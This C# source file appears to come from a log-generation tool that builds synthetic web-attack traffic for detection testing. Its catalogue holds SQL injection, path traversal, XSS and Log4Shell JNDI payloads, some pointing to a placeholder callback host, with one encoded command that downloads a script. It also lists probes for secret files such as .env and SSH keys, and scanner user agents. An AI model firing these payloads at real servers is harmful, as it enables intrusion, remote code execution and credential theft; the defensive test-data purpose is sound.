namespace FastLog.Generation.Attacks;

/// <summary>
/// What attack traffic looks like: payloads, probed paths and tool user agents, modelled on
/// public rule sets (Sigma webserver rules, docs/detections.md) and on what scanners really send.
/// Every target is one token (no raw space, no raw quote), as clients send them URL-encoded.
/// </summary>
internal static class AttackCatalog
{
    private const string Callback = "198.51.100.";

    public static readonly FrozenUtf8Strings LoginTargets = Freeze("/login", "/wp-login.php", "/user/login", "/api/v1/auth/login", "/admin/login.php", "/account/signin");
    public static readonly FrozenUtf8Strings BasicAuthTargets = Freeze("/admin/", "/manager/html", "/phpmyadmin/", "/jenkins/login", "/private/", "/grafana/login");
    private static readonly string[] BasicAuthUsers = ["admin", "root", "tomcat", "administrator", "manager", "test"];

    public static readonly FrozenUtf8Strings BruteForceAgents = Freeze(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
        "Mozilla/4.0 (Hydra)",
        "python-requests/2.28.1",
        "curl/7.68.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Mozilla/5.0 (compatible; Hydra)");

    public static readonly FrozenUtf8Strings DirectoryWords = BuildWordlist();
    public static readonly FrozenUtf8Strings DirectoryAgents = Freeze(
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0-dev",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36",
        "feroxbuster/2.10.1",
        "Wfuzz/3.1.0");

    public static readonly FrozenUtf8Strings SqlInjectionTargets = Freeze(
        "/products.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7171706a71,0x4a6b,0x716b767a71)--%20-",
        "/item?id=1'%20OR%20'1'='1",
        "/index.php?id=-1%20UNION%20SELECT%201,@@version,3--",
        "/news?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)",
        "/products?category=1%27%20order%20by%2010--%20",
        "/user?id=1+UNION+SELECT+table_name,2+FROM+information_schema.tables--",
        "/search?q=test%27%20AND%201=1--",
        "/login.php?user=admin%27%20or%201=1%23",
        "/article?id=1%27)%20AND%20(SELECT%20group_concat(username,0x3a,password)%20FROM%20users)--",
        "/api/v1/items?sort=name%20AND%20extractvalue(1,concat(0x7e,(select%20version())))",
        "/product?id=2%20UNION%20SELECT%20concat_ws(0x3a,user(),database()),2--",
        "/index.php?page=1%27%20AND%20%271%27%3D%271",
        "/catalog?id=1;select%28sleep%2810%29%29",
        "/view.php?id=1%20and%201=2%20union%20select%20table_schema,table_name%20from%20information_schema.tables",
        "/search?q=%27%20UNION%20SELECT%20NULL,NULL--",
        "/orders?id=5%27%20WAITFOR%20DELAY%20%270:0:5%27--");
    public static readonly FrozenUtf8Strings SqlInjectionAgents = Freeze(
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36",
        "sqlmap/1.8#stable (https://sqlmap.org)");

    public static readonly FrozenUtf8Strings TraversalTargets = Freeze(
        "/download?file=../../../etc/passwd",
        "/download?file=../../../../../../etc/shadow",
        "/index.php?page=..%252f..%252f..%252fetc%252fpasswd",
        "/view?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "/image?name=%252e%252e%252fetc%252fpasswd",
        "/static/../../../../etc/passwd",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/api/files?path=../../../../windows/win.ini",
        "/include.php?file=....//....//....//etc/passwd",
        "/template?name=../../../../../lib/password",
        "/assets?f=..%2f..%2f..%2f..%2fetc%2fhosts");
    public static readonly FrozenUtf8Strings TraversalAgents = Freeze(
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
        "curl/7.81.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36");

    public static readonly FrozenUtf8Strings XssTargets = Freeze(
        "/search?q=<script>alert(1)</script>",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/comment?text=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/profile?name=%3Csvg/onload=alert(document.domain)%3E",
        "/redirect?url=javascript:alert(1)",
        "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "/page?x=%3Ciframe%20src=javascript:alert(1)%3E",
        "/products?category=%22%3E%3Cscript%3Ealert(String.fromCharCode(88,83,83))%3C/script%3E",
        "/login?next=%22onmouseover=%22alert(1)",
        "/search?q=%3Cbody%20onload=alert(1)%3E",
        "/feedback?msg=%3Cdetails%20open%20ontoggle=alert(1)%3E");
    public static readonly FrozenUtf8Strings XssAgents = Freeze(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/118.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36");

    public static readonly FrozenUtf8Strings JndiTargets = Freeze(
        $"/?x=${{jndi:ldap://{Callback}23:1389/Exploit}}",
        $"/${{jndi:ldap://{Callback}23:1389/a}}",
        $"/api/v1/users?name=${{jndi:ldap://{Callback}77/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}}",
        $"/%24%7Bjndi:ldap://{Callback}23:1389/TomcatBypass/Command/Base64/aWQ=%7D",
        $"/search?q=${{${{lower:j}}ndi:${{lower:l}}dap://{Callback}91/x}}",
        $"/login?user=${{jndi:dns://{Callback}5/callback}}",
        $"/?id=${{jndi:rmi://{Callback}23:1099/Deserialization/URLDNS/a}}");
    public static readonly FrozenUtf8Strings JndiAgents = Freeze(
        $"${{jndi:ldap://{Callback}23:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIC1PIC90bXAveA==}}",
        $"${{jndi:ldap://{Callback}77:1389/a}}",
        $"Mozilla/5.0 ${{jndi:ldap://{Callback}91:389/o=tomcat}}",
        $"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{Callback}5/z}}");
    public static readonly FrozenUtf8Strings JndiPlainAgents = Freeze(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36",
        "Go-http-client/1.1");

    public static readonly FrozenUtf8Strings ReconAgents = Freeze(
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.0 zgrab/0.x",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "WhatWeb/0.5.5",
        "sqlmap/1.7.2#stable (https://sqlmap.org)");
    public static readonly FrozenUtf8Strings ReconTargets = Freeze(
        "/", "/robots.txt", "/admin/", "/phpinfo.php", "/server-status", "/cgi-bin/test-cgi", "/cgi-bin/printenv",
        "/.well-known/security.txt", "/wp-login.php", "/xmlrpc.php", "/wp-json/wp/v2/users", "/readme.html", "/actuator/health",
        "/actuator/env", "/console", "/manager/html", "/solr/admin/info/system", "/_ignition/health-check",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx", "/remote/login",
        "/global-protect/login.esp", "/boaform/admin/formLogin", "/HNAP1/", "/api/v1/pods", "/debug/pprof/",
        "/telescope/requests", "/nikto-test-4a8c2e.html", "/index.php?module=../../../../etc/passwd%00",
        "/icons/README", "/server-info", "/login.action", "/struts2-showcase/", "/jmx-console/", "/axis2/axis2-admin/",
        "/sdk", "/geoserver/web/", "/autodiscover/autodiscover.xml", "/.DS_Store", "/crossdomain.xml");

    public static readonly FrozenUtf8Strings SecretTargets = Freeze(
        "/.git/config", "/.git/HEAD", "/.git/index", "/.git/logs/HEAD", "/.git/refs/heads/main", "/.gitignore",
        "/.env", "/.env.local", "/.env.production", "/.env.bak", "/.env.example", "/api/.env", "/app/.env", "/backend/.env",
        "/wp-config.php", "/wp-config.php.bak", "/wp-config.php~", "/.htpasswd", "/.htaccess", "/.aws/credentials",
        "/.ssh/id_rsa", "/config.json", "/.DS_Store", "/.svn/entries", "/.hg/store/00manifest.i", "/backup.sql", "/database.sql",
        "/dump.sql", "/.npmrc", "/.dockercfg", "/docker-compose.yml", "/server.key", "/config/database.yml",
        "/.vscode/sftp.json", "/.idea/workspace.xml", "/phpinfo.php", "/composer.json", "/.git-credentials", "/web.config");
    public static readonly FrozenUtf8Strings SecretAgents = Freeze(
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
        "python-requests/2.25.1",
        "Go-http-client/1.1",
        "curl/7.64.1");

    public static readonly FrozenUtf8Strings RateBotAgents = Freeze(
        "Scrapy/2.11.0 (+https://scrapy.org)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36",
        "python-requests/2.31.0",
        "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)");

    public static readonly FrozenUtf8Strings JndiReferers = Freeze($"${{jndi:ldap://{Callback}23:1389/ref}}", $"https://${{jndi:ldap://{Callback}77/r}}.example.com/");

    /// <summary>The user name basic-auth brute force number <paramref name="instance"/> tries.</summary>
    public static string BasicAuthUser(int instance) => BasicAuthUsers[instance % BasicAuthUsers.Length];

    private static FrozenUtf8Strings Freeze(params string[] items)
    {
        var pool = new Utf8StringPool();
        foreach (var item in items) pool.Add(item);
        return pool.Freeze();
    }

    private static FrozenUtf8Strings BuildWordlist()
    {
        var words = ("admin administrator backup backups bak old new test tmp temp dev staging prod api v1 v2 config conf db database "
            + "sql dump data upload uploads files file images img include includes inc lib vendor private secret secure login "
            + "logout register user users account panel cpanel dashboard manage manager console portal server status info "
            + "phpmyadmin pma myadmin mysql webadmin siteadmin install setup wordpress wp-admin wp-content joomla drupal "
            + "cgi-bin scripts js css assets media logs log debug trace shell cmd webdav xmlrpc rest graphql swagger docs "
            + "readme changelog license archive export import download reports stats monitor metrics actuator jenkins git "
            + "svn cache session sessions token oauth sso auth internal hidden beta demo mobile store shop cart").Split(' ');
        string[] extensions = ["", "/", ".php", ".bak", ".old", ".zip", ".tar.gz", ".txt", ".html", ".asp", ".aspx", ".jsp", ".sql", "~"];
        var pool = new Utf8StringPool();
        foreach (var ext in extensions)
            foreach (var w in words)
                pool.Add("/" + w + ext);
        return pool.Freeze();
    }
}
